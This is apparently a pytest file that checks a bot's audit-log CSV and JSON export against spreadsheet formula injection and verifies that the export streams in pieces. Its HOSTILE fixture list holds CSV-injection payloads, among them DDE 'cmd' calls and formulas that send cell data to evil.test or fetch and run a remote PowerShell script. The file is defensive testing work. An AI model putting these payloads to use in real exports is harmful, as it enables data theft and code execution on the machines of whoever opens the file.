"""The audit as files: nothing in them is a formula, nothing is lost, and however much there is, it comes in pieces."""

import csv
import io
import json
from collections.abc import AsyncIterator, Sequence
from dataclasses import replace
from typing import Any

import pytest

from bot.exporting import COLUMNS, TYPES, exported, inert
from bot.text import clean
from storage.audit import Entry

ENTRY = Entry(
    "d1", "call", 1_800_000_000.25, "slack:T1:U1", "Ada", "slash", "C1", "calendar today", "{}", "", "", "done", "3", "", 7
)
# https://owasp.org/www-community/attacks/CSV_Injection, and what spreadsheets forgive before a formula
HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tharmless",
    "\rharmless",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000@SUM(A1)",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.test?"&A1,"click")',
    '@IMPORTXML(CONCAT("https://evil.test/",A1),"//a")',
    "+cmd|' /C powershell IEX(wget evil.test/x)'!A0",
    "-2+3+cmd|' /C calc'!D2",
    '=1+1";=2+2',
    '"=1+1',
    "'=1+1",
    "=",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹣1",
    "=\ud83d\x00\x1b[2J",
)
HARMLESS = ("", "ada@acme.test", "1-2", "{}", "a=b", "calendar today", "Ünï ☃ 🎉", "a,b;c", 'say "hi"', "two\nlines", "3")


async def entries(*given: Entry) -> AsyncIterator[Entry]:
    for entry in given:
        yield entry


async def pieces(format: str, *given: Entry) -> list[bytes]:
    return [piece async for piece in exported(entries(*given), format)]


async def rows(*given: Entry) -> Sequence[dict[str, str]]:
    told = b"".join(await pieces("csv", *given)).decode()
    return list(csv.DictReader(io.StringIO(told, newline="")))


def is_formula(cell: str) -> bool:
    return cell.lstrip()[:1] in ("=", "+", "-", "@") or cell[:1] in ("\t", "\r", "\n")


@pytest.mark.parametrize("cell", HOSTILE, ids=ascii)
async def test_no_cell_is_a_formula_in_whatever_column_it_comes(cell: str) -> None:
    texts: dict[str, Any] = {name: cell for name, value in vars(ENTRY).items() if isinstance(value, str)}
    [row] = await rows(replace(ENTRY, **texts))

    assert list(row) == list(COLUMNS)
    assert not [each for each in row.values() if is_formula(each)]
    assert {row[name].removeprefix("'") for name in texts} == {clean(cell).removeprefix("'")}


@pytest.mark.parametrize("cell", [each for each in HOSTILE if each[0] not in "\"'"], ids=ascii)
def test_a_formula_has_an_apostrophe_in_front(cell: str) -> None:
    assert inert(cell) == f"'{clean(cell)}"


@pytest.mark.parametrize("cell", HARMLESS)
async def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert inert(cell) == cell
    [row] = await rows(replace(ENTRY, said=cell))
    assert row["said"] == cell


async def test_numbers_and_moments_are_plain() -> None:
    [row] = await rows(ENTRY)
    assert (row["number"], row["at"]) == ("7", "2027-01-15T08:00:00.250+00:00")
    [told] = json.loads(b"".join(await pieces("json", ENTRY)))
    assert (told["number"], told["at"]) == (7, "2027-01-15T08:00:00.250+00:00")


async def test_a_moment_that_somebody_has_forged_is_exported_all_the_same() -> None:
    assert (await rows(replace(ENTRY, at=1e308)))[0]["at"] == "1e+308"


@pytest.mark.parametrize("text", [*HOSTILE, *HARMLESS], ids=ascii)
async def test_json_keeps_every_text_as_it_was(text: str) -> None:
    [told] = json.loads(b"".join(await pieces("json", replace(ENTRY, said=text))))
    assert (told["said"], list(told)) == (text, list(COLUMNS))


@pytest.mark.parametrize("number", [0, 1, 2, 99, 100, 101, 1000])
async def test_however_many_there_are_each_is_there_once_and_in_order(number: int) -> None:
    given = [replace(ENTRY, number=each) for each in range(number)]
    assert [int(row["number"]) for row in await rows(*given)] == list(range(number))
    assert [each["number"] for each in json.loads(b"".join(await pieces("json", *given)))] == list(range(number))


@pytest.mark.parametrize("format", TYPES)
async def test_it_is_written_in_pieces(format: str) -> None:
    given = [replace(ENTRY, number=each) for each in range(2000)]
    assert max(map(len, await pieces(format, *given))) < 100 * 500
